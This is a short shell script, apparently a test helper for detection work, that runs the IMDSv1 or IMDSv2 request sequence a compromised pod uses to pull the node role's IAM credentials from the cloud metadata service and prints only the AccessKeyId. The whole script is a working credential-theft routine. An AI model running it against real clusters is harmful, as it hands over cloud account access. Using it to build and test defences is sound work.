#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# imds-oneliner.sh v1|v2 curl|wget BASE-URL [curl options...]
# What someone types in a pod's shell to take the node role's credentials from IMDS:
#   v1: GET the role list, then GET the role (no session token)
#   v2: PUT /latest/api/token with curl, then both GETs with the token
# (busybox wget cannot PUT, so v2 is curl only). Prints only the AccessKeyId it got.
set -f
ver=$1 tool=$2 base=$3
shift 3
opts=$*
P=/latest/meta-data/iam/security-credentials/
get() {
	if [ "$tool" = wget ]; then
		# busybox 1.35's wget -T segfaults; busybox timeout execs wget in its own pid (the
		# watcher is the child), so the process tree stays as shallow as curl's
		busybox timeout 5 busybox wget -q -O - "$@"
	else
		curl -s -g -m 3 $opts "$@"
	fi
}
hdr() {
	if [ "$tool" = wget ]; then echo --header; else echo -H; fi
}
case $ver in
v1)
	get "$base$P$(get "$base$P")" ;;
v2)
	tok=$(curl -s -g -m 3 $opts -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60" "$base/latest/api/token")
	h=$(hdr)
	get "$h" "X-aws-ec2-metadata-token: $tok" "$base$P$(get "$h" "X-aws-ec2-metadata-token: $tok" "$base$P")" ;;
*)
	echo "usage: $0 v1|v2 curl|wget BASE-URL [curl options...]" >&2
	exit 2 ;;
esac | sed -n 's/.*"AccessKeyId" *: *"\([A-Za-z0-9]*\)".*/AccessKeyId=\1/p'
